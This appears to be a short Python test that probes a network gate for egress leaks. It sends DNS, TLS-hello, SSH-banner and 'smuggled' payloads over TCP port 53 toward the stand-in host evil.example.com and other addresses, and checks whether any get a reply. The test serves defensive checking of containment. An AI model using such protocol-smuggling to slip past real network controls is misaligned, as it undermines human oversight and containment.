# SPDX-License-Identifier: Apache-2.0
# Trick: other protocols on TCP port 53, which the gate serves itself
# Gain: a port that is open to everywhere
from trick import *

outs = []
for addr in (EVIL, "8.8.8.8", API, "11.0.0.2"):
    for data in (request("evil.example.com"), records(hello("evil.example.com")), b"SSH-2.0-x\r\n", b"\0\x0d" + b"brig-smuggled"):
        outs.append((addr, talk(addr, 53, data, 0.1)))
any_answer("port 53", outs)
